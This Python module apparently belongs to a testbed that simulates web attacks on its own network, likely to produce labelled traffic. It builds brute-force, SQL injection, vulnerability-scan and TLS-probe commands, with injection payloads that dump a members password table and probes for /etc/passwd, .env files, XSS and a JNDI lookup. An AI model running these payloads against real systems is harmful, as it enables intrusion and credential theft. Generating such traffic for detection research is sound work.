"""Attacks on web servers and what they run: hidden paths, injection, known holes, weak TLS."""

from testbed.attacks.material import ANYWHERE, maybe, paths, pause, user_agent, words
from testbed.catalogue import Assault, attack

DIRBUST = "T1595.003"
VULNERABILITIES = "T1595.002"
EXPLOIT = "T1190"

INJECTIONS = ("1'", '1"', "1 OR 1=1", "1' OR '1'='1", "1; --", "1) OR (1=1", "1 UNION SELECT 1,2",
              "1 UNION SELECT name,sql FROM sqlite_master", "1 UNION SELECT name,password FROM members", "1 ORDER BY 3",
              "1 AND 1=2", "1 AND sqlite_version()>0", "-1 UNION SELECT 1,sqlite_version()", "1'/**/OR/**/1=1",
              "1 AND (SELECT count(*) FROM members)>5", "%' UNION SELECT name,password FROM members --",
              "' UNION SELECT tbl_name,sql FROM sqlite_master --", "1 AND randomblob(100000000)", "x'||'y", "1 GROUP BY 1")


def root(c) -> str:
    """The address of a website of the own network."""
    scheme, offer, port = c.choose(("http", "web", ""), ("https", "web", ""), ("http", "web", ""), ("http", "shop", ":8080"))
    return f"{scheme}://{c.server(offer).address}{port}"


def item(c) -> str:
    """A page of the shop that takes a number."""
    return f"{root(c)}{c.conventions.shop}/item?{c.conventions.item}="


def encoded(injection: str) -> str:
    return "".join(letter if letter.isalnum() else f"%{ord(letter):02X}" for letter in injection)


@attack("web_dirbust", technique=DIRBUST, tool="gobuster", origins=ANYWHERE, needs=("web", "shop"), packages=("gobuster",),
        seconds=30)
def gobuster(c):
    return Assault(words("gobuster dir -q -k --no-error", f"-t {c.between(2, 16)}", maybe(c, 0.4, f"--delay {c.between(10, 150)}ms"),
                         f"-a '{user_agent(c)}'", maybe(c, 0.3, "-x php,bak"), maybe(c, 0.3, "-f"),
                         f"-w {paths(c, c.between(200, 700))} -u {root(c)}/"))


@attack("web_dirbust", technique=DIRBUST, tool="ffuf", origins=ANYWHERE, needs=("web", "shop"), packages=("ffuf",), seconds=30)
def ffuf(c):
    return Assault(words("ffuf -s -k", f"-t {c.between(2, 16)}", maybe(c, 0.4, f"-p {c.between(0.05, 0.3)}"),
                         f"-H 'User-Agent: {user_agent(c)}'",
                         f"-w {paths(c, c.between(200, 700))} -u {root(c)}/FUZZ", c.choose("-mc 200,301,403", "-fc 404")))


@attack("web_dirbust", technique=DIRBUST, tool="dirb", origins=ANYWHERE, needs=("web", "shop"), packages=("dirb",), seconds=30)
def dirb(c):
    return Assault(words(f"dirb {root(c)}/ {paths(c, c.between(150, 500))} -S -w -r", f"-a '{user_agent(c)}'",
                         maybe(c, 0.4, f"-z {c.between(5, 80)}"), maybe(c, 0.3, "-X .php,.bak")))


@attack("web_dirbust", technique=DIRBUST, tool="wfuzz", origins=ANYWHERE, needs=("web", "shop"), packages=("wfuzz",),
        seconds=30)
def wfuzz_paths(c):
    return Assault(words("wfuzz --hc 404", f"-t {c.between(2, 12)}", maybe(c, 0.4, f"-s {c.between(0.02, 0.2)}"),
                         f"-H 'User-Agent: {user_agent(c)}' -w {paths(c, c.between(150, 500))} {root(c)}/FUZZ"))


@attack("web_dirbust", technique=DIRBUST, tool="curl", origins=ANYWHERE, needs=("web", "shop"), packages=("curl",), seconds=30)
def curl_paths(c):
    site = root(c)
    return Assault(f"for path in $(cat {paths(c, c.between(60, 200))}); do curl -sk -m 5 {c.choose('-I', '', '--http1.1')}"
                   f" -A '{user_agent(c)}' -o /dev/null {site}/$path; {pause(c.between(0.0, 0.15))}; done")


@attack("web_sqli", technique=EXPLOIT, tool="sqlmap", origins=ANYWHERE, needs=("web", "shop"), packages=("sqlmap",), seconds=40)
def sqlmap(c):
    target = c.choose(f'-u "{item(c)}{c.between(2, 90)}"',
                      f'-u "{root(c)}{c.conventions.shop}/search?q=item-{c.between(1, 9)}" -p q')
    return Assault(words("sqlmap --batch --ignore-stdin --flush-session --output-dir=$PWD/sqlmap", target,
                         f"--threads {c.between(1, 4)} --level {c.between(1, 2)} --risk {c.between(1, 2)}",
                         f"--technique {c.choose('BEU', 'BU', 'BE', 'BEUT', 'U')}", maybe(c, 0.5, "--random-agent"),
                         maybe(c, 0.4, f"--delay {c.between(0.02, 0.3)}"),
                         maybe(c, 0.3, f"--tamper {c.choose('space2comment', 'randomcase', 'between')}"),
                         c.choose("--tables", "--dump -T members", "--banner", "--dump -T items --stop 40")))


@attack("web_sqli", technique=EXPLOIT, tool="wfuzz", origins=ANYWHERE, needs=("web", "shop"), packages=("wfuzz",), seconds=30)
def wfuzz_injection(c):
    return Assault(words("wfuzz", f"-t {c.between(1, 6)}", maybe(c, 0.5, f"-s {c.between(0.05, 0.3)}"),
                         f"-H 'User-Agent: {user_agent(c)}' -z file,{injections(c)},urlencode '{item(c)}FUZZ'"))


@attack("web_sqli", technique=EXPLOIT, tool="curl", origins=ANYWHERE, needs=("web", "shop"), packages=("curl",), seconds=40)
def curl_injection(c):
    page = c.choose(item(c), f"{root(c)}{c.conventions.shop}/search?q=")
    tries = " ".join(f"'{encoded(injection)}'" for injection in c.random.choices(INJECTIONS, k=c.between(8, 30)))
    return Assault(f"for injection in {tries}; do curl -sk -m 8 -A '{user_agent(c)}' -o /dev/null \"{page}$injection\";"
                   f" {pause(c.between(0.1, 1.2))}; done")


@attack("web_sqli", technique=EXPLOIT, tool="ffuf", origins=ANYWHERE, needs=("web", "shop"), packages=("ffuf",), seconds=30)
def ffuf_injection(c):
    return Assault(words("ffuf -s -k", f"-t {c.between(1, 8)}", maybe(c, 0.5, f"-p {c.between(0.1, 0.5)}"),
                         f"-H 'User-Agent: {user_agent(c)}' -w {injections(c, encoded)} -u '{item(c)}FUZZ' -mc all"))


def injections(c, encode=str):
    drawn = [f"{c.choose('', str(c.between(1, 99)))}{injection}" for injection in INJECTIONS for _ in range(c.between(1, 3))]
    c.random.shuffle(drawn)
    return c.write("injections", "\n".join(map(encode, drawn)) + "\n")


@attack("web_vulnscan", technique=VULNERABILITIES, tool="wapiti", origins=ANYWHERE, needs=("web", "shop"),
        packages=("wapiti",), seconds=40)
def wapiti(c):
    modules = ",".join(c.random.sample(["xss", "exec", "file", "sql", "crlf", "redirect", "ssrf", "backup", "htaccess",
                                        "methods"], c.between(2, 4)))
    url = c.choose(f"{root(c)}/", f"{root(c)}{c.conventions.shop}/")
    return Assault(words(f"timeout {c.between(20, 36)} wapiti -u {url} -m {modules} -d {c.between(1, 2)} --scope folder",
                         f"--max-scan-time 0.5 --no-bugreport -A '{user_agent(c)}' -f txt -o $PWD/report.txt",
                         maybe(c, 0.3, f"--max-links-per-page {c.between(5, 20)}")))


@attack("web_vulnscan", technique=VULNERABILITIES, tool="whatweb", origins=ANYWHERE, needs=("web", "shop"),
        packages=("whatweb",), seconds=30)
def whatweb(c):
    sites = " ".join(sorted({root(c) + "/" for _ in range(c.between(1, 3))} | {f"{root(c)}{c.conventions.shop}/"}))
    return Assault(f"whatweb -q -a {c.choose(3, 4)} -t {c.between(1, 10)} -U '{user_agent(c)}' {sites}")


@attack("web_vulnscan", technique=VULNERABILITIES, tool="nmap http", origins=ANYWHERE, needs=("web", "shop"),
        packages=("nmap",), seconds=40)
def nmap_web(c):
    scripts = ",".join(c.random.sample(["http-enum", "http-headers", "http-methods", "http-shellshock", "http-sql-injection",
                                        "http-csrf", "http-vuln-cve2017-5638", "http-vuln-cve2014-3704", "http-git",
                                        "http-phpmyadmin-dir-traversal", "http-passwd", "http-userdir-enum", "http-trace",
                                        "http-backup-finder", "http-config-backup"], c.between(3, 7)))
    return Assault(f"nmap -n -Pn -sT -p{c.choose('80', '80,443', '80,8080', '443')} --script {scripts} --script-timeout"
                   f" {c.between(12, 30)}s --script-args http.useragent=\"{user_agent(c)}\" {c.server('web').address}")


@attack("web_vulnscan", technique=VULNERABILITIES, tool="wfuzz", origins=ANYWHERE, needs=("web", "shop"), packages=("wfuzz",),
        seconds=30)
def wfuzz_holes(c):
    holes = ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", ".git/config", ".env", "cgi-bin/test-cgi",
             "<script>alert(1)</script>", "%3Cscript%3E", "?page=php://filter/resource=index", "wp-login.php?action=register",
             "server-status", ".htaccess", ".svn/entries", "phpinfo.php", "console/", "actuator/env", "solr/admin/cores",
             "${jndi:ldap://127.0.0.1/x}", "index.php?s=/Index/think", "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
             "boaform/admin/formLogin", "HNAP1/", "manager/html", "struts2-showcase/", "autodiscover/autodiscover.xml"]
    listing = c.write("holes", "\n".join(c.random.sample(holes, len(holes)) * c.between(1, 4)) + "\n")
    return Assault(words("wfuzz", f"-t {c.between(1, 8)}", maybe(c, 0.5, f"-s {c.between(0.05, 0.4)}"),
                         f"-H 'User-Agent: {user_agent(c)}' -w {listing} {root(c)}/FUZZ"))


def tls(c) -> str:
    """A server with TLS and its port."""
    offer, port = c.choose(("web", 443), ("web", 443), ("mailboxes", 993))
    servers = c.network.servers(offer) or c.network.servers("web")
    return f"{c.random.choice(servers).address}:{port if c.network.servers(offer) else 443}"


@attack("tls_probe", technique=VULNERABILITIES, tool="sslscan", origins=ANYWHERE, needs=("web",), packages=("sslscan",),
        seconds=30)
def sslscan(c):
    return Assault(words("sslscan --no-colour", maybe(c, 0.3, "--no-heartbleed"), maybe(c, 0.3, "--no-renegotiation"),
                         maybe(c, 0.3, "--no-groups"), maybe(c, 0.3, "--show-client-cas"),
                         maybe(c, 0.4, f"--sleep={c.between(20, 150)}"), tls(c)))


@attack("tls_probe", technique=VULNERABILITIES, tool="nmap ssl", origins=ANYWHERE, needs=("web",), packages=("nmap",),
        seconds=35)
def nmap_tls(c):
    address, port = tls(c).split(":")
    scripts = ",".join(c.random.sample(["ssl-enum-ciphers", "ssl-cert", "ssl-heartbleed", "ssl-poodle", "ssl-dh-params",
                                        "ssl-ccs-injection", "tls-alpn", "ssl-known-key", "sslv2-drown"], c.between(2, 5)))
    return Assault(f"nmap -n -Pn -sT -p{port} --script {scripts} {address}")


@attack("tls_probe", technique=VULNERABILITIES, tool="heartbleeder", origins=ANYWHERE, needs=("web",),
        packages=("heartbleeder",), seconds=25)
def heartbleeder(c):
    return Assault(f"for round in $(seq {c.between(1, 5)}); do heartbleeder -timeout {c.between(2, 5)}s {tls(c)};"
                   f" {pause(c.between(0.1, 2.0))}; done")


@attack("tls_probe", technique=VULNERABILITIES, tool="testssl", origins=ANYWHERE, needs=("web",), packages=("testssl.sh",),
        seconds=45)
def testssl(c):
    checks = c.choose("-p", "-s", "-p -h", "-f", "-S", "-U", "-p -S")
    return Assault(f"timeout 40 testssl --quiet --color 0 --warnings off {checks} {tls(c)}", variant=checks)


@attack("tls_probe", technique=VULNERABILITIES, tool="openssl", origins=ANYWHERE, needs=("web",), packages=("openssl",),
        seconds=35)
def openssl_suites(c):
    suites = c.choose("$(openssl ciphers ALL:COMPLEMENTOFALL | tr : '\\n'"
                      f" | shuf -n {c.between(15, 45)} --random-source=<(yes {c.between(1, 99)}))")
    return Assault(f"for suite in {suites}; do timeout 4 openssl s_client -connect {tls(c)} -tls1_2 -cipher $suite"
                   f" </dev/null >/dev/null 2>&1; {pause(c.between(0.0, 0.5))}; done")
